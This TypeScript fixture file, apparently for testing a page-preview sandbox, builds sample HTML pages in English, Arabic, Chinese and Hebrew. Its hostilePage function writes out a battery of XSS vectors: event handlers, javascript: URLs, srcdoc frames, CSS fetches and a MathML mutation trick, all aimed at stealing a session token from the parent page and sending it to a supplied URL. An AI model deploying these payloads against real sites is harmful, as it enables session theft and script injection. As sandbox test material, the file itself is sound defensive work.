/** Pages of our own for the studio: each shows what a picture should be looked at for. */

const paragraph =
  'The tide tables of Grey Holm are copied out by hand each winter, because the printed ones leave out the sandbank that moves. Three people check every figure, and the oldest of them has the last word.';

/** Everything that a reading sets in a way of its own. */
export const reading = `<!doctype html><html lang="en"><head><title>How the tide tables are made | Holm Papers</title>
<meta name="author" content="Runa Vik"><meta property="article:published_time" content="2025-03-02"></head><body>
<nav><a href="/a">Papers</a> <a href="/b">People</a></nav><main><article><h1>How the tide tables are made</h1>
<p>${paragraph}<sup id="r1"><a href="#n1">1</a></sup></p><p>${paragraph}</p>
<h2>The formula</h2><p>The height of the water follows <math><mi>h</mi><mo>=</mo><mi>A</mi><mi>cos</mi><mo>(</mo><mi>ω</mi><mi>t</mi><mo>)</mo></math>, and the whole year is a sum of such waves:</p>
<p><math display="block"><mi>H</mi><mo>=</mo><munderover><mo>∑</mo><mrow><mi>i</mi><mo>=</mo><mn>1</mn></mrow><mi>n</mi></munderover><msub><mi>A</mi><mi>i</mi></msub><mi>cos</mi><mo>(</mo><msub><mi>ω</mi><mi>i</mi></msub><mi>t</mi><mo>)</mo></math></p>
<figure><img src="https://papers.example/img/gauge.jpg" alt="The gauge at the north pier" width="640" height="360"><figcaption>The gauge at the north pier has been read every six hours since 1911.</figcaption></figure>
<h2>The program</h2><p>Since last year a small program adds the waves up, and nobody trusts it on Sundays:</p>
<pre><code class="language-js">export function height(waves, t) {
  let sum = 0;
  for (const { amplitude, speed } of waves) sum += amplitude * Math.cos(speed * t);
  return sum;
}</code></pre><p>${paragraph}</p><blockquote><p>A table that is never wrong has never been used.</p></blockquote>
<table><caption>Waves of the north pier</caption><thead><tr><th>Name</th><th>Amplitude (m)</th><th>Hours</th></tr></thead><tbody><tr><td>Moon</td><td>1.42</td><td>12.42</td></tr><tr><td>Sun</td><td>0.48</td><td>12.00</td></tr></tbody></table>
<ul><li>Read the gauge four times a day.</li><li>Write down wind and pressure beside it.</li></ul><p>${paragraph}</p>
<section class="footnotes" role="doc-endnotes"><ol><li id="n1">The sandbank is called the Sleeper, and has moved by forty metres since the last survey. <a href="#r1">↩</a></li></ol></section>
</article></main><footer>© Holm Papers · <a href="/imprint">Imprint</a></footer></body></html>`;

const arabic = 'كتب حارس المنارة كل ليلة أسماء السفن التي مرت أمام الجزيرة، وساعة مرورها، واتجاه الريح، ثم أغلق الدفتر ونام حتى الفجر.';
/** From right to left. */
export const rightToLeft = `<!doctype html><html lang="ar" dir="rtl"><head><title>دفتر حارس المنارة</title></head><body><nav><a href="/">الرئيسية</a> <a href="/b">أخبار</a></nav>
<article><h1>دفتر حارس المنارة</h1>${`<p>${arabic} ${arabic}</p>`.repeat(5)}<h2>السفن</h2><p>${arabic}</p></article><footer><a href="/c">اتصل بنا</a></footer></body></html>`;

const chinese = '灯塔的看守人每天晚上记下经过海岛的船名、时刻和风向，然后合上本子，一直睡到天亮。村里的人说，这些本子比任何地图都可靠。';
export const chinesePage = `<!doctype html><html lang="zh"><head><title>灯塔看守人的本子_海岛日报</title></head><body><div><a href="/">首页</a> <a href="/b">新闻</a></div>
<article><h1>灯塔看守人的本子</h1>${`<p>${chinese}${chinese}</p>`.repeat(5)}</article><div><a href="/c">联系我们</a></div></body></html>`;

/** A page of thousands of blocks: a long list with a paragraph and a link in each entry. */
export function largePage(blocks: number): string {
  const entry = (at: number) =>
    at % 3 === 0
      ? `<h3>Entry ${at} of the harbour book</h3>`
      : at % 3 === 1
        ? `<p>On day ${at} the harbour master noted ${at % 17} ships, two of them from the north, and a wind that turned in the afternoon.</p>`
        : `<div class="more"><a href="/entry/${at}">More on entry ${at}</a></div>`;
  return `<!doctype html><html lang="en"><head><title>The harbour book</title></head><body><main><h1>The harbour book</h1>${Array.from({ length: blocks }, (_, at) => entry(at)).join('\n')}</main></body></html>`;
}

/** Tries everything a page can try from inside a preview; what it reaches it would tell `told`. */
export function hostilePage(told: string): string {
  const attack = `fetch('${told}?token=' + (parent.sessionStorage.getItem('pith-token') || top.sessionStorage.length)); parent.document.title = 'owned'; document.title='owned'; window.parent.owned = true;`;
  const attribute = attack.replaceAll('"', '&quot;');
  return `<!doctype html><html lang="en" onload="${attribute}"><head><title>Weather</title><base href="${told}/"><meta http-equiv="refresh" content="0;url=${told}/refresh">
<script>${attack}</script><link rel="stylesheet" href="${told}/style.css"><link rel="prefetch" href="${told}/prefetch"><style>@import url(${told}/import.css); body { background: url(${told}/css.png) } @font-face { font-family: x; src: url(${told}/font) } h1 { font-family: x }</style></head>
<body onload="${attribute}" onpointerover="${attribute}"><article><h1 onclick="${attribute}">Weather for the week</h1>
${'<p>A quiet week with light wind from the west is expected, and nobody on the island will need a second coat before Sunday evening.</p>'.repeat(6)}
<p><a href="javascript:${encodeURIComponent(attack)}" ping="${told}/ping">Read on</a> <a href="${told}/leave" target="_top">elsewhere</a></p>
<img src="${told}/pixel.png" srcset="${told}/pixel2.png 2x" onerror="${attribute}" alt="A cloud"><img src=x onerror="${attribute}">
<svg><script>${attack}</script><image href="${told}/svg.png"></image><foreignObject><iframe src="${told}/frame"></iframe></foreignObject></svg>
<iframe srcdoc="<script>${attribute}</script>"></iframe><object data="${told}/object"></object><embed src="${told}/embed"><video autoplay src="${told}/video" onloadstart="${attribute}"></video>
<form action="${told}/form" id="f"><input name="q" autofocus onfocus="${attribute}"><button formaction="javascript:${encodeURIComponent(attack)}">Send</button></form>
<p>&lt;img src=x onerror="${attribute}"&gt; stands here as text, and so does &lt;script&gt;${attack.replaceAll('<', '&lt;')}&lt;/script&gt;.</p>
<math><mtext></form><form><mglyph><style></math><img src=x onerror="${attribute}"></article></body></html>`;
}

const hebrewHouse =
  'יומן הנמל מלווה את סוחרי החוף זה מאה ושתים עשרה שנים, והמנויים שלו מקבלים לא רק את הגיליון המודפס לפני עלות השחר, אלא גם את לוח השנה, שני כרטיסים למרוץ הסירות של הקיץ ואת ברכת המדפיסים.';
const hebrewGoods = ['מלח', 'דגים', 'חבלים', 'שמן', 'דבש'];
/** A page of a Hebrew site whose content is short notes and a table between advertising of the house; what is content has a digit. */
export function hebrewPage(number: number): string {
  const goods = hebrewGoods[number % hebrewGoods.length]!;
  return `<!doctype html><html lang="he" dir="rtl"><head><title>מחירי ${goods} ${number} | יומן הנמל</title></head><body>
<div class="top"><a href="/">ראשי</a> <a href="/news">חדשות</a></div><h1>מחירי ${goods} בשבוע ${number}</h1>
<div class="house"><p>${hebrewHouse}</p><p>${hebrewHouse}</p></div>
<div class="notes"><div>${goods}: ${number + 7} כתרים לחבית ברציף הצפוני</div><div>${number + 12} חביות הגיעו ביום שלישי</div><div>אשתקד שילמו ${number + 5} כתרים</div>
<table><tr><td>רציף 1</td><td>${number + 40} חביות</td></tr><tr><td>רציף 2</td><td>${number + 31} חביות</td></tr></table></div>
<div class="house"><p>${hebrewHouse}</p></div><div class="bottom"><a href="/contact">צרו קשר</a></div></body></html>`;
}

const chineseHouse =
  '海港日志陪伴沿岸商人已经一百一十二年，订户不但在天亮以前收到报纸，还能得到年历、两张夏季赛船的门票，以及印刷工人的问候。广告部从周一到周五开放，四十个字的启事能送到灯塔和水坝之间的每一户人家。';
const chineseGoods = ['盐', '鲱鱼', '绳索', '灯油', '蜂蜜'];
/** The same in Chinese. */
export function chinesePricesPage(number: number): string {
  const goods = chineseGoods[number % chineseGoods.length]!;
  return `<!doctype html><html lang="zh"><head><title>第${number}周${goods}价格_海港日志</title></head><body>
<div class="top"><a href="/">首页</a> <a href="/news">新闻</a></div><h1>第${number}周${goods}的价格</h1>
<div class="house"><p>${chineseHouse}</p><p>${chineseHouse}</p></div>
<div class="notes"><div>${goods}：北码头每桶${number + 7}克朗</div><div>星期二到了${number + 12}桶</div><div>去年的价格是${number + 5}克朗</div></div>
<div class="house"><p>${chineseHouse}</p></div><div class="bottom"><a href="/contact">联系我们</a></div></body></html>`;
}
